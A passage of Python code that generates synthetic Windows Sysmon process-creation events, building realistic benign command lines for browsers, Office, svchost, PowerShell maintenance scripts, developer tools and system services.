        self.ts_ms += 1 + int(self.rng.expovariate(1.0 / MEAN_GAP_MS))
        sec, ms = divmod(self.ts_ms, 1000)
        if sec != self._sec:
            self._sec = sec
            dt = datetime.fromtimestamp(START.timestamp() + sec, UTC)
            self._sec_utc = dt.strftime("%Y-%m-%d %H:%M:%S")
            self._sec_iso = self._sec_utc.replace(" ", "T")
        return f"{self._sec_utc}.{ms:03d}", f"{self._sec_iso}.{ms:03d}Z"

    def hashes(self, b: Binary, version: str) -> str:
        key = (b.original or b.image, version)
        h = self.hash_cache.get(key)
        if h is None:
            seed = f"{key[0]}|{version}".encode()
            h = (
                f"SHA1={hashlib.sha1(seed).hexdigest().upper()},MD5={hashlib.md5(seed).hexdigest().upper()},"
                f"SHA256={hashlib.sha256(seed).hexdigest().upper()},"
                f"IMPHASH={hashlib.md5(key[0].encode()).hexdigest().upper()}"
            )
            self.hash_cache[key] = h
        return h

    def random_hashes(self) -> str:
        r = self.rng
        return (
            f"SHA1={r.getrandbits(160):040X},MD5={r.getrandbits(128):032X},"
            f"SHA256={r.getrandbits(256):064X},IMPHASH={r.getrandbits(128):032X}"
        )

    def version(self, b: Binary, host: Host) -> str:
        if not b.versions:
            return f"{host.os_version} (WinBuild.160101.0800)"
        return b.versions[0] if len(b.versions) == 1 else self.rng.choice(b.versions)

    def session(self, host: Host, user: str) -> tuple[str, str]:
        s = host.sessions.get(user)
        if s is None:
            if user in SERVICE_ACCOUNTS:
                lid = SERVICE_ACCOUNTS[user]
                s = (f"{{{host.guid_prefix}-0000-0000-0000-0020{int(lid, 16):04x}0000}}", lid)
            else:
                lid_int = self.rng.randrange(0x100000, 0x3FFFFFF)
                s = (
                    f"{{{host.guid_prefix}-{self.hex(4)}-{self.hex(4)}-0000-0020{lid_int:08x}}}",
                    hex(lid_int),
                )
            host.sessions[user] = s
        return s

    def interactive_user(self, host: Host) -> str:
        if host.kind == "wks" and self.rng.random() < 0.9:
            return host.user
        return self.rng.choice(self.users)

    @staticmethod
    def qualify(user: str) -> str:
        return user if "\\" in user else f"{DOMAIN}\\{user}"

    def image_of(self, b: Binary, user: str) -> str:
        return b.image.replace("{user}", user) if "{user}" in b.image else b.image

    def base(self, host: Host, event_id: int) -> Event:
        utc, iso = self.tick()
        return {
            "EventID": event_id,
            "Channel": CHANNEL,
            "Provider_Name": PROVIDER,
            "Computer": host.fqdn,
            "UtcTime": utc,
            "@timestamp": iso,
            "RuleName": "-",
        }

    # ---- process creation (EventID 1) ---------------------------------------------------------
    def proc_event(
        self,
        host: Host,
        b: Binary,
        cmdline: str,
        cwd: str,
        user: str,
        parent: Binary,
        parent_cmd: str,
        parent_user: str | None = None,
        integrity: str | None = None,
        image: str | None = None,
        hashes: str | None = None,
    ) -> Event:
        ev = self.base(host, 1)
        uname = user.split("\\")[-1]
        service = user in SERVICE_ACCOUNTS
        logon_guid, logon_id = self.session(host, user)
        version = self.version(b, host)
        ev.update(
            {
                "ProcessGuid": self.proc_guid(host),
                "ProcessId": self.pid(),
                "Image": image or self.image_of(b, uname),
                "FileVersion": version,
                "Description": b.description,
                "Product": b.product,
                "Company": b.company,
                "OriginalFileName": b.original,
                "CommandLine": cmdline,
                "CurrentDirectory": cwd,
                "User": self.qualify(user),
                "LogonGuid": logon_guid,
                "LogonId": logon_id,
                "TerminalSessionId": 0 if service else 1 + (self.rng.random() < 0.1),
                "IntegrityLevel": integrity or ("System" if user == SYSTEM else "Medium"),
                "Hashes": hashes or self.hashes(b, version),
                "ParentProcessGuid": self.proc_guid(host),
                "ParentProcessId": self.pid(),
                "ParentImage": self.image_of(parent, uname),
                "ParentCommandLine": parent_cmd,
                "ParentUser": self.qualify(parent_user or user),
            }
        )
        return ev

    def _proc(self, host: Host) -> Event:
        return self.proc_event(host, *self.proc_builders[self.pick(self.proc_cum)](host))

    def chromium_cmd(self, exe: str, kind: str, user_data: str, extra: str = "") -> str:
        """Chromium/Electron child-process command line; ``extra`` holds embedder flags (WebView2)."""
        r = self.rng
        trial = (
            f"--field-trial-handle={r.randrange(1800, 2400)},i,{r.getrandbits(60)},{r.getrandbits(60)},262144"
        )
        chan = f"--mojo-platform-channel-handle={r.randrange(1000, 9000)}"
        if kind == "renderer":
            flags = [
                f'"{exe}"',
                "--type=renderer" + extra,
                "--lang=en-US",
                f"--device-scale-factor={r.choice(('1', '1.25', '1.5'))}",
                "--num-raster-threads=4",
                "--enable-main-frame-before-activation",
                f"--renderer-client-id={r.randrange(5, 400)}",
                f"--time-ticks-at-unix-epoch=-{r.getrandbits(50)}",
                f"--launch-time-ticks={r.getrandbits(36)}",
                trial,
                chan,
                "/prefetch:1",
            ]
            cmd = " ".join(flags)
            for optional in (7, 5, 4, 3):  # long install paths: drop optional flags to stay within 400 chars
                if len(cmd) <= 400:
                    break
                del flags[optional]
                cmd = " ".join(flags)
            return cmd
        if kind == "utility":
            sub = r.choice(
                ("network.mojom.NetworkService", "storage.mojom.StorageService", "audio.mojom.AudioService",
                 "data_decoder.mojom.DataDecoderService")
            )  # fmt: skip
            return (
                f'"{exe}" --type=utility{extra} --utility-sub-type={sub} --lang=en-US '
                f"--service-sandbox-type=service {trial} {chan} /prefetch:{r.choice((8, 11, 12))}"
            )
        if kind == "gpu":
            prefs = base64.b64encode(r.getrandbits(384).to_bytes(48, "little")).decode()
            return f'"{exe}" --type=gpu-process{extra} --gpu-preferences={prefs} {trial} {chan} /prefetch:2'
        return (
            f'"{exe}" --type=crashpad-handler "--user-data-dir={user_data}" /prefetch:4 '
            f'"--database={user_data}\\Crashpad" --annotation=plat=Win64 '
            f"--initial-client-data=0x{r.randrange(0x100, 0x300):x},0x{r.randrange(0x100, 0x300):x},"
            f"0x{r.randrange(0x100, 0x300):x},0x7ffd{self.hex(8)}"
        )

    def _p_chrome(self, host: Host) -> tuple[Any, ...]:
        user = self.interactive_user(host)
        b = B["chrome"]
        kind = self.rng.choices(("renderer", "utility", "gpu", "crashpad"), cum_weights=(60, 80, 90, 100))[0]
        ud = f"C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data"
        cmd = self.chromium_cmd(b.image, kind, ud)
        parent_cmd = f'"{b.image}" ' + self.rng.choice(
            ("", "--profile-directory=Default", '--profile-directory="Profile 1"', "--restore-last-session")
        )
        return b, cmd, CHROME_DIR + "\\" + self.version(b, host) + "\\", user, b, parent_cmd.rstrip()

    def _p_edge(self, host: Host) -> tuple[Any, ...]:
        user = self.interactive_user(host)
        b = B["msedge"]
        kind = self.rng.choices(("renderer", "utility", "gpu", "crashpad"), cum_weights=(55, 80, 92, 100))[0]
        ud = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Edge\\User Data"
        cmd = self.chromium_cmd(b.image, kind, ud)
        parent_cmd = f'"{b.image}" --no-startup-window --win-session-start'
        return b, cmd, EDGE_DIR + "\\" + self.version(b, host) + "\\", user, b, parent_cmd

    def _p_teams(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        if r.random() < 0.7:
            b = B["msedgewebview2"]
            extra = " --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe"
            cmd = self.chromium_cmd(b.image, r.choice(("renderer", "renderer", "utility", "gpu")), "", extra)
            parent = B["msteams"]
            return b, cmd, f"C:\\Users\\{user}\\", user, parent, f'"{parent.image}" msteams:system-initiated'
        b = B["teams_classic"]
        exe = self.image_of(b, user)
        cmd = self.chromium_cmd(exe, r.choice(("renderer", "utility", "gpu")), "")
        return (
            b,
            cmd,
            f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\",
            user,
            b,
            f'"{exe}" --process-start-type=autostart --system-initiated',
        )

    def _p_onedrive(self, host: Host) -> tuple[Any, ...]:
        user = self.interactive_user(host)
        b = B["onedrive"]
        exe = self.image_of(b, user)
        if self.rng.random() < 0.35:
            fc = B["filecoauth"]
            return (
                fc,
                f'"{self.image_of(fc, user)}" -Embedding',
                f"C:\\Users\\{user}\\",
                user,
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            )
        args = self.rng.choice(
            (
                "/background",
                "/updateInstalled /background",
                "/watchdog",
                "/cci /reporting",
                "/sharePoint /url:odopen://sync/?siteId=" + self.guid(),
            )
        )
        return b, f'"{exe}" {args}', f"C:\\Users\\{user}\\", user, B["explorer"], "C:\\Windows\\Explorer.EXE"

    def _p_explorer(self, host: Host) -> tuple[Any, ...]:
        user = self.interactive_user(host)
        return (
            B["explorer"],
            "C:\\Windows\\Explorer.EXE",
            "C:\\Windows\\system32\\",
            user,
            B["userinit"],
            "C:\\Windows\\system32\\userinit.exe",
        )

    def _p_svchost(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        group, svc, user = r.choice((
            ("netsvcs", "Schedule", SYSTEM), ("netsvcs", "gpsvc", SYSTEM), ("netsvcs", "wuauserv", SYSTEM),
            ("netsvcs", "BITS", SYSTEM), ("netsvcs", "Winmgmt", SYSTEM), ("netsvcs", "lfsvc", SYSTEM),
            ("netsvcs", "UsoSvc", SYSTEM), ("LocalServiceNetworkRestricted", "lmhosts", LOCAL_SERVICE),
            ("LocalServiceNetworkRestricted", "Dhcp", LOCAL_SERVICE),
            ("NetworkService", "Dnscache", NETWORK_SERVICE),
            ("NetworkService", "CryptSvc", NETWORK_SERVICE), ("wsappx", "AppXSvc", SYSTEM),
            ("wsappx", "ClipSVC", SYSTEM), ("LocalSystemNetworkRestricted", "SysMain", SYSTEM),
            ("LocalService", "EventSystem", LOCAL_SERVICE), ("DcomLaunch", "", SYSTEM),
            ("UnistackSvcGroup", "CDPUserSvc", ""), ("UnistackSvcGroup", "WpnUserService", ""),
            ("LocalServiceNoNetworkFirewall", "BFE", LOCAL_SERVICE), ("rdxgroup", "", SYSTEM),
            ("appmodel", "StateRepository", SYSTEM), ("NetworkServiceNetworkRestricted", "PolicyAgent",
                                                      NETWORK_SERVICE),
        ))  # fmt: skip
        if not user:  # per-user services run as the logged-on user with a random instance suffix
            user = self.interactive_user(host)
            cmd = f"C:\\Windows\\system32\\svchost.exe -k {group} -s {svc}_{self.hex(5)}"
        else:
            flags = (" -p" if r.random() < 0.8 else "") + (f" -s {svc}" if svc else "")
            cmd = f"C:\\Windows\\system32\\svchost.exe -k {group}{flags}"
        return (
            B["svchost"],
            cmd,
            "C:\\Windows\\system32\\",
            user,
            B["services"],
            "C:\\Windows\\system32\\services.exe",
            SYSTEM,
            "System" if user == SYSTEM else None,
        )

    def _p_conhost(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = SYSTEM if r.random() < 0.3 else self.interactive_user(host)
        parent, pcmd = r.choice((
            (B["cmd"], 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Contoso\\EndpointAgent\\'
             'scripts\\collect_inventory.cmd" "'),
            (B["powershell"], f'"{PS_PATH}" -NoProfile -File "C:\\Scripts\\Get-DiskReport.ps1"'),
            (B["git"], '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --prune origin'),
            (B["python"], "python.exe -m pytest -q"),
            (B["java"], f'"{B["java"].image}" -version'),
            (B["mpcmdrun"], f'"{DEFENDER_DIR}\\MpCmdRun.exe" -wdenable'),
        ))  # fmt: skip
        cmd = r.choice(
            (
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0x4",
            )
        )
        return (
            B["conhost"],
            cmd,
            "C:\\Windows\\system32\\" if user == SYSTEM else f"C:\\Users\\{user}\\",
            user,
            parent,
            pcmd,
        )

    def _p_powershell(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = r.choice((SYSTEM, self.interactive_user(host), self.interactive_user(host)))
        script, script_args = r.choice(
            (
                (
                    "Backup-SqlDatabases.ps1",
                    f"-Instance SRV-SQL-{r.randrange(1, 30):02d} -RetentionDays {r.randrange(7, 31)}",
                ),
                (
                    "Get-DiskReport.ps1",
                    f"-ThresholdPercent {r.randrange(5, 25)} -OutFile C:\\Reports\\disk_{self.hex(6)}.csv",
                ),
                ("Sync-ADGroupMembership.ps1", f"-Group 'GG-{r.choice(DEPARTMENTS)}-Users' -WhatIf:$false"),
                ("Rotate-IISLogs.ps1", f"-Path D:\\inetpub\\logs\\LogFiles -Days {r.randrange(14, 90)}"),
                ("Invoke-Inventory.ps1", f"-Output \\\\SRV-FS-10\\inventory$\\{host.short}.json"),
                ("Clear-TempFiles.ps1", "-Verbose"),
                (
                    "Test-ServiceHealth.ps1",
                    f"-ComputerName {r.choice(self.hosts).short} -Services Spooler,W32Time",
                ),
            )
        )
        forms = (
            f'"{PS_PATH}" -NoProfile -NonInteractive -File "C:\\Scripts\\{script}" {script_args}',
            f"powershell.exe -NoLogo -NoProfile -File C:\\Scripts\\{script} {script_args}",
            f'"{PS_PATH}" -NoLogo -NoProfile -Command "Get-Service -Name '
            f'{r.choice(("Spooler", "W32Time", "WinRM", "wuauserv"))} | Select-Object Name,Status,StartType"',
            f'"{PS_PATH}" -NoProfile -Command "Get-ChildItem -Path C:\\Users\\{self.interactive_user(host)}'
            f'\\Downloads -Filter *.log | Remove-Item -WhatIf"',
            f'"{PS_PATH}" -ExecutionPolicy RemoteSigned -File '
            f"C:\\Users\\{user.split(chr(92))[-1]}\\Documents\\WindowsPowerShell\\profile-setup.ps1",
            f'"{PS_PATH}" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass '
            f"\"& 'C:\\Windows\\CCM\\SystemTemp\\{self.guid().lower()}.ps1'\"",
            f'"{PS_PATH}" ',
        )
        cmd = r.choices(forms, cum_weights=(40, 55, 70, 78, 85, 90, 100))[0].rstrip()
        parent, pcmd = (
            (B["svchost"], "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
            if user == SYSTEM
            else (B["explorer"], "C:\\Windows\\Explorer.EXE")
        )
        integrity = "System" if user == SYSTEM else r.choice(("Medium", "High"))
        cwd = "C:\\Windows\\system32\\" if user == SYSTEM else f"C:\\Users\\{user}\\"
        return B["powershell"], cmd, cwd, user, parent, pcmd, None, integrity

    def _p_cmd(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        u = user
        repo = r.choice(REPOS)
        npm_task = r.choice(("build", "lint", "test", "dev"))
        forms = (
            (f'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Contoso\\EndpointAgent\\scripts\\'
             f'{r.choice(("collect_inventory", "rotate_logs", "check_disk", "sync_time"))}.cmd" "',
             B["agent"], '"C:\\Program Files\\Contoso\\EndpointAgent\\agent.exe" --service'),
            (f"C:\\Windows\\system32\\cmd.exe /c C:\\Users\\{u}\\source\\repos\\{repo}\\build.bat "
             f"--configuration {r.choice(('Release', 'Debug'))}", B["explorer"], "C:\\Windows\\Explorer.EXE"),
            (f'C:\\Windows\\system32\\cmd.exe /d /s /c "npm run {npm_task}"', B["node"],
             f'"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\'
             f'bin\\npm-cli.js" run {npm_task}'),
            ("C:\\Windows\\system32\\cmd.exe /c \\\\corp.example.com\\NETLOGON\\logon\\map_drives.cmd",
             B["gpscript"], "C:\\Windows\\system32\\gpscript.exe /Logon"),
            ("cmd.exe /c git rev-parse --abbrev-ref HEAD", B["code"],
             f'"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"'),
            (f'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Contoso\\backup\\nightly_'
             f'{r.choice(("files", "sql", "config"))}.bat > C:\\ProgramData\\Contoso\\backup\\logs\\'
             f'run_{self.hex(8)}.log 2>&1"', B["svchost"],
             "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
            ('"C:\\Windows\\system32\\cmd.exe" ', B["explorer"], "C:\\Windows\\Explorer.EXE"),
        )  # fmt: skip
        cmd, parent, pcmd = r.choice(forms)
        if parent is B["agent"] or parent is B["svchost"]:  # service and scheduled-task launches
            user = SYSTEM
        cwd = "C:\\Windows\\system32\\" if user == SYSTEM else f"C:\\Users\\{u}\\source\\repos\\{repo}\\"
        return B["cmd"], cmd.rstrip(), cwd, user, parent, pcmd

    def _p_git(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        repo = r.choice(REPOS)
        args = r.choice((
            "status -z -uall", "fetch --prune origin", "pull --rebase --autostash",
            "-c core.quotepath=false -c color.ui=false rev-parse --show-toplevel",
            "log --format=%H%n%aN%n%aE%n%at%n%ct%n%P%n%D%n%B -z --shortstat --diff-merges=first -n50 "
            "--skip=0 --topo-order --decorate=full --stdin",
            f"checkout -b feature/{r.choice(('PAY', 'OPS', 'WEB', 'DATA'))}-{r.randrange(100, 9999)}",
            f"commit -m \"{r.choice(('Fix flaky test', 'Bump deps', 'Refactor loader', 'Add retry'))}\"",
            "ls-files --stage -- " + r.choice(("src/main.py", "README.md", "package.json", "main.tf")),
            f"cat-file -s {self.hex(40)}",
            "for-each-ref --sort -committerdate --format %(refname) refs/heads",
        ))  # fmt: skip
        if r.random() < 0.3:
            b, parent, pcmd = B["git_mingw"], B["git"], '"C:\\Program Files\\Git\\cmd\\git.exe" ' + args
        else:
            b, parent = B["git"], B["code"]
            pcmd = f'"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"'
        return b, f'"{b.image}" {args}', f"C:\\Users\\{user}\\source\\repos\\{repo}\\", user, parent, pcmd

    def _p_python(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        b = B["python"]
        exe = self.image_of(b, user)
        args = r.choice((
            f"-m pytest tests\\unit -q -x -k {r.choice(('parser', 'billing', 'auth', 'export'))}",
            "manage.py migrate --noinput", "manage.py runserver 127.0.0.1:8000",
            f"C:\\Users\\{user}\\scripts\\report_{self.hex(4)}.py --month 2026-{r.randrange(1, 12):02d}",
            f"c:\\Users\\{user}\\.vscode\\extensions\\ms-python.python-2024.20.0-win32-x64\\python_files\\"
            "run-jedi-language-server.py",
            "-m black --check src", "-m mypy src --strict", f"-m http.server {r.randrange(8000, 8100)}",
            "-c \"import sys; print(sys.executable)\"",
        ))  # fmt: skip
        parent = r.choice((B["code"], B["cmd"], B["pwsh"]))
        pcmd = (
            f'"{self.image_of(parent, user)}"'
            if parent is B["code"]
            else "C:\\Windows\\system32\\cmd.exe"
            if parent is B["cmd"]
            else '"C:\\Program Files\\PowerShell\\7\\pwsh.exe"'
        )
        return (
            b,
            f'"{exe}" {args}',
            f"C:\\Users\\{user}\\source\\repos\\{r.choice(REPOS)}\\",
            user,
            parent,
            pcmd,
        )

    def _p_java(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        b = B["java"]
        if host.kind != "wks" or r.random() < 0.3:
            args = (
                f"-Xmx{r.choice((512, 1024, 2048))}m -Dfile.encoding=UTF-8 -jar C:\\jenkins\\agent.jar "
                f"-url https://jenkins.{DNS_SUFFIX}/ -secret {self.hex(64)} -name {host.short} "
                "-workDir C:\\jenkins"
            )
            return (
                b,
                f'"{b.image}" {args}',
                "C:\\jenkins\\",
                SYSTEM,
                B["services"],
                "C:\\Windows\\system32\\services.exe",
                SYSTEM,
                "System",
            )
        user = self.interactive_user(host)
        args = (
            "-XX:MaxMetaspaceSize=384m -XX:+HeapDumpOnOutOfMemoryError -Xms256m -Xmx512m "
            f"-Dfile.encoding=UTF-8 -cp C:\\Users\\{user}\\.gradle\\wrapper\\dists\\gradle-8.5-bin\\"
            f"{self.hex(25)}\\gradle-8.5\\lib\\gradle-launcher-8.5.jar "
            "org.gradle.launcher.daemon.bootstrap.GradleDaemon 8.5"
        )
        return (
            b,
            f'"{b.image}" {args}',
            f"C:\\Users\\{user}\\.gradle\\daemon\\8.5\\",
            user,
            B["java"],
            f'"{b.image}" -Xmx64m -Xms64m -classpath gradle-wrapper.jar '
            "org.gradle.wrapper.GradleWrapperMain build",
        )

    def _p_office(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        app = r.choice(("winword", "winword", "excel", "excel", "outlook", "powerpnt", "c2r"))
        b = B[app]
        doc = f"{r.choice(DOC_WORDS)}{r.choice(('', ' v2', ' FINAL', ' (1)', ' - Copy', ' draft'))}"
        folder = r.choice(
            (
                f"C:\\Users\\{user}\\Documents",
                f"C:\\Users\\{user}\\Downloads",
                f"C:\\Users\\{user}\\OneDrive - Contoso\\Shared",
                f"\\\\SRV-FS-{r.randrange(8, 30)}\\dept",
            )
        )
        if app == "winword":
            cmd = f'"{b.image}" /n "{folder}\\{doc}.docx" /o ""'
        elif app == "excel":
            cmd = f'"{b.image}" "{folder}\\{doc}.xlsx"'
        elif app == "powerpnt":
            cmd = f'"{b.image}" "{folder}\\{doc}.pptx" /ou ""'
        elif app == "outlook":
            cmd = f'"{b.image}" ' + r.choice(("/recycle", "", '/select "outlook:Inbox"'))
        else:
            cmd = f'"{b.image}" /service'
            return (
                b,
                cmd,
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["services"],
                "C:\\Windows\\system32\\services.exe",
            )
        return (
            b,
            cmd.rstrip(),
            f"C:\\Users\\{user}\\Documents\\",
            user,
            B["explorer"],
            "C:\\Windows\\Explorer.EXE",
        )

    def _p_winupdate(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        k = r.randrange(4)
        dcom = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"
        if k == 0:
            return (
                B["tiworker"],
                f"{B['tiworker'].image} -Embedding",
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["svchost"],
                dcom,
            )
        if k == 1:
            return (
                B["wuauclt"],
                '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer',
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
            )
        if k == 2:
            return (
                B["mousocore"],
                "C:\\Windows\\System32\\mousocoreworker.exe -Embedding",
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["svchost"],
                dcom,
            )
        return (
            B["trustedinstaller"],
            "C:\\Windows\\servicing\\TrustedInstaller.exe",
            "C:\\Windows\\system32\\",
            SYSTEM,
            B["services"],
            "C:\\Windows\\system32\\services.exe",
        )

    def _p_defender(self, host: Host) -> tuple[Any, ...]:
        args = self.rng.choice((
            "SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke", "-wdenable",
            "-IdleTask -TaskName WdCacheMaintenance", "-IdleTask -TaskName WdVerification",
            "SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
        ))  # fmt: skip
        b = B["mpcmdrun"]
        return (
            b,
            f'"{b.image}" {args}',
            "C:\\Windows\\system32\\",
            SYSTEM,
            B["msmpeng"],
            f'"{B["msmpeng"].image}"',
        )

    def _p_installer(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        k = r.randrange(5)
        if k == 0:
            return (
                B["msiexec"],
                "C:\\Windows\\system32\\msiexec.exe /V",
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["services"],
                "C:\\Windows\\system32\\services.exe",
            )
        if k == 1:
            mode = r.choice(("C", "E Global\\MSI0000"))
            cmd = f"C:\\Windows\\System32\\MsiExec.exe -Embedding {self.hex(32).upper()} {mode}"
            return (
                B["msiexec"],
                cmd,
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["msiexec"],
                "C:\\Windows\\system32\\msiexec.exe /V",
            )
        if k == 2:
            b = B["edgeupdate"]
            return (
                b,
                f'"{b.image}" /ua /installsource {r.choice(("scheduler", "core"))}',
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["taskhostw"],
                "taskhostw.exe",
            )
        if k == 3:
            b = B["googleupdater"]
            return (
                b,
                f'"{b.image}" --wake --system',
                "C:\\Windows\\system32\\",
                SYSTEM,
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            )
        b = B["adobearm"]
        user = self.interactive_user(host)
        return (
            b,
            f'"{b.image}" /PRODUCT:Reader /VERSION:24.0 /MODE:3',
            f"C:\\Users\\{user}\\",
            user,
            B["explorer"],
            "C:\\Windows\\Explorer.EXE",
        )

    def _p_system_misc(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        user = self.interactive_user(host)
        dcom = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"
        sys_cwd = "C:\\Windows\\system32\\"
        k = r.randrange(12)
        if k == 0:
            return (
                B["taskhostw"],
                f"taskhostw.exe {{{self.guid()}}}",
                sys_cwd,
                user,
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                SYSTEM,
            )
        if k == 1:
            server = r.choice(
                (
                    "BackgroundTaskHost.WebAccountProvider",
                    "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca",
                    "Microsoft.Windows.Search_cw5n1h2txyewy!CortanaUI",
                )
            )
            return (
                B["bgtaskhost"],
                f'"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:{server}',
                sys_cwd,
                user,
                B["svchost"],
                dcom,
                SYSTEM,
            )
        if k == 2:
            return (
                B["runtimebroker"],
                "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
                sys_cwd,
                user,
                B["svchost"],
                dcom,
                SYSTEM,
            )
        if k == 3:
            return (
                B["dllhost"],
                f"C:\\Windows\\system32\\DllHost.exe /Processid:{{{self.guid()}}}",
                sys_cwd,
                user,
                B["svchost"],
                dcom,
                SYSTEM,
            )
        if k == 4:
            sid = f"S-1-5-21-{r.getrandbits(31)}-{r.getrandbits(31)}-{r.getrandbits(31)}-1001"
            cmd = (
                f'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_{sid}_ '
                f'Global\\UsGthrCtrlFltPipeMssGthrPipe_{sid} 1 -2147483646 "Software\\Microsoft\\Windows '
                'Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 6.0 Robot)" '
                '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'
            )
            return (
                B["searchprotocol"],
                cmd,
                sys_cwd,
                SYSTEM,
                B["searchindexer"],
                "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
            )
        if k == 5:
            nums = " ".join(str(r.randrange(500, 1200)) for _ in range(6))
            return (
                B["searchfilter"],
                f'"C:\\Windows\\system32\\SearchFilterHost.exe" 0 {nums}',
                sys_cwd,
                SYSTEM,
                B["searchindexer"],
                "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
            )
        if k == 6:
            return (
                B["wmiprvse"],
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                sys_cwd,
                r.choice((NETWORK_SERVICE, SYSTEM, LOCAL_SERVICE)),
                B["svchost"],
                dcom,
                SYSTEM,
            )
        if k == 7:
            return (
                B["smartscreen"],
                "C:\\Windows\\System32\\smartscreen.exe -Embedding",
                sys_cwd,
                user,
                B["svchost"],
                dcom,
                SYSTEM,
            )
        if k == 8:
            return (
                B["audiodg"],
                f"C:\\Windows\\system32\\AUDIODG.EXE 0x{r.randrange(0x300, 0x800):x}",
                sys_cwd,
                LOCAL_SERVICE,
                B["svchost"],
                "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted",
            )
        if k == 9:
            cv = base64.b64encode(r.getrandbits(96).to_bytes(12, "little")).decode()
            return (
                B["compattel"],
                f"C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll "
                f"-f:DoScheduledTelemetryRun -cv:{cv}.{r.randrange(1, 9)}",
                sys_cwd,
                SYSTEM,
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            )
        if k == 10:
            return (
                B["sechealth"],
                "C:\\Windows\\system32\\SecurityHealthHost.exe "
                "{08728914-3F57-4D52-9E31-49DAECA5A80A} -Embedding",
                sys_cwd,
                user,
                B["svchost"],
                dcom,
                SYSTEM,
            )
        return (
            B["ctfmon"],
            "C:\\Windows\\system32\\ctfmon.exe",
            sys_cwd,
            user,
            B["svchost"],
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            SYSTEM,
        )

    def _p_server(self, host: Host) -> tuple[Any, ...]:
        r = self.rng
        if r.random() < 0.6:
            pool = r.choice(("DefaultAppPool", "PortalPool", "ApiPool", "ReportingPool"))
            cmd = (
                f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{pool}" -v "v4.0" -l "webengine4.dll" -a '
                f"\\\\.\\pipe\\iisipm{self.guid().lower()} "
                f'-h "C:\\inetpub\\temp\\apppools\\{pool}\\{pool}.config" -w "" -m 0 -t 20 -ta 0'
            )
            return (
                B["w3wp"],
                cmd,
                "C:\\Windows\\system32\\",
                f"IIS APPPOOL\\{pool}",
                B["svchost"],
                "C:\\Windows\\system32\\svchost.exe -k iissvcs",
                SYSTEM,
            )
        b = B["sqlcmd"]
        cmd = (
            f'"{b.image}" -S SRV-SQL-{r.randrange(1, 30):02d} -E -b -Q "EXEC dbo.'
            f"{r.choice(('IndexOptimize', 'DatabaseIntegrityCheck', 'CommandLogCleanup'))} @Databases = "
            f"'USER_DATABASES'\""
        )
        return (
            b,
            cmd,
            "C:\\Windows\\system32\\",
            "CORP\\svc_sqlagent",
            B["cmd"],
            f'C:\\Windows\\system32\\cmd.exe /c "C:\\SQLJobs\\maint_{self.hex(4)}.cmd"',
        )

    def _p_vscode(self, host: Host) -> tuple[Any, ...]:
        user = self.interactive_user(host)
        b = B["code"]
        exe = self.image_of(b, user)
        cmd = self.chromium_cmd(exe, self.rng.choice(("renderer", "utility", "gpu")), "")
        return (
            b,
            cmd,
